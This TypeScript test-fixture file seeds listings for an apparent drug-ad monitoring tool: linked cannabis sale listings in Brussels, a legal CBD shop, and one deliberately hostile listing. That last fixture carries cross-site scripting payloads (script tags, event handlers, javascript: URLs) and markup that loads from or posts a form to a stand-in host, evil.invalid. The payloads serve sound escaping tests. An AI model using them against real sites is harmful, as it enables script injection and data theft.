import type { SeedListing } from './test-server.ts';

/** A 2×2 PNG, standing in for a browser-mode screenshot. */
const TINY_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP8z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg==',
  'base64',
);

/** A plain market listing with a phone and a Telegram handle (the actor's first listing). */
export const weedIxelles: SeedListing = {
  externalId: 'weed-ixelles',
  title: 'Weed 420 Ixelles',
  text: 'Beuh de qualité dispo, livraison Ixelles. Tel 0470 12 34 56 ou telegram @greenxl',
  url: 'https://annonces.example/ad/weed-ixelles',
  cues: ['Weed', 'Beuh', 'livraison'],
  substances: ['cannabis'],
  commune: 'Ixelles',
  contacts: [
    { type: 'phone', value: '0470 12 34 56', normalized: '+32470123456' },
    { type: 'telegram', value: '@greenxl', normalized: 'greenxl' },
  ],
  label: 'market',
  score: 0.91,
  rawHtml: '<html><body><h1>Weed 420 Ixelles</h1><p>Beuh de qualité</p></body></html>',
  screenshotPng: TINY_PNG,
};

/** The same seller under a new handle but the same phone: one actor. */
export const growSchaerbeek: SeedListing = {
  externalId: 'grow-schaerbeek',
  title: 'Matériel culture indoor complet',
  text: 'Lampes, engrais, boutures disponibles à Schaerbeek. Contact 0470 12 34 56, snap: growbxl',
  url: 'https://annonces.example/ad/grow-schaerbeek',
  cues: ['boutures', 'engrais'],
  substances: ['cannabis'],
  commune: 'Schaerbeek',
  contacts: [
    { type: 'phone', value: '0470 12 34 56', normalized: '+32470123456' },
    { type: 'snapchat', value: 'growbxl', normalized: 'growbxl' },
  ],
  label: 'production',
  score: 0.84,
  rawHtml: '<html><body><h1>Matériel culture</h1></body></html>',
};

/** A third, unrelated listing to dismiss. */
export const plantsAnderlecht: SeedListing = {
  externalId: 'cbd-anderlecht',
  title: 'CBD légal fleurs Anderlecht',
  text: 'Fleurs CBD légales < 0,2 % THC, boutique à Anderlecht.',
  url: 'https://annonces.example/ad/cbd-anderlecht',
  cues: ['CBD', 'THC'],
  substances: ['cbd'],
  commune: 'Anderlecht',
  contacts: [],
  label: 'market',
  score: 0.55,
  rawHtml: '<html><body><h1>CBD</h1></body></html>',
};

/** Where hostile markup would try to send data or load from, were it ever executed or rendered. */
export const EVIL_ORIGIN = 'http://evil.invalid';

/**
 * A crawled listing that tries everything: script tags, an event handler, `javascript:` links in
 * the text and as the listing URL, and a raw snapshot that would run script and load a remote image.
 */
export const hostile: SeedListing = {
  externalId: 'hostile',
  title: `<script>window.__pwned = 'title'; alert('title')</script> Beuh <b onmouseover="window.__pwned=1">dispo</b>`,
  text: [
    `<img src=x onerror="window.__pwned = 'img'; alert('img')">`,
    `<a href="javascript:window.__pwned='link';alert('link')">clique ici</a>`,
    `<iframe src="${EVIL_ORIGIN}/frame"></iframe><img src="${EVIL_ORIGIN}/pixel.png">`,
    `"><svg onload="window.__pwned='svg'">`,
    'Beuh livraison Bruxelles',
  ].join('\n'),
  url: `javascript:window.__pwned='url';alert('url')`,
  cues: ['Beuh', 'livraison', '<script>'],
  substances: ['cannabis'],
  commune: 'Bruxelles',
  contacts: [
    { type: 'url', value: `javascript:alert('contact')`, normalized: `javascript:alert('contact')` },
  ],
  label: 'market',
  score: 0.8,
  rawHtml: `<html><head><script>parent.__pwned='raw';alert('raw')</script><base href="${EVIL_ORIGIN}/"></head><body onload="alert('onload')">
<img src="${EVIL_ORIGIN}/raw.png" onerror="alert('raw-img')"><link rel="stylesheet" href="${EVIL_ORIGIN}/x.css">
<form action="${EVIL_ORIGIN}/steal"><input name="q"></form><a href="javascript:alert('raw-link')">x</a>Beuh</body></html>`,
};
